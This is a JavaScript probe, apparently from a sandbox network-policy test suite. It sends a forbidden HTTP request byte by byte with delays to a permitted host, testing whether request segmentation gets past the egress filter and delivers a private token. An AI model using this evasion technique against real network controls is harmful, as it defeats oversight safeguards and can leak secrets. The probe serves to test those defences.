// technique: sends the forbidden request byte by byte, and after a silence
// source: TCP segmentation; slow first bytes
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { get, PRIVATE, say } from './wire.mjs';

await say(process.env.ALLOWED_HTTP, []);
const { default: net } = await import('node:net');
for (const wait of [1, 400]) {
  const [, host, port] = /^(.*):(\d+)$/.exec(process.env.ALLOWED_HTTP);
  const socket = net.connect({ host, port, noDelay: true });
  socket.on('error', () => undefined);
  for (const byte of [...get(PRIVATE)]) {
    if (!socket.destroyed) socket.write(byte);
    if (byte === 'G' || byte === ' ') await new Promise((resolve) => setTimeout(resolve, wait));
  }
  await new Promise((resolve) => socket.once('data', resolve).once('close', resolve));
  socket.destroy();
}
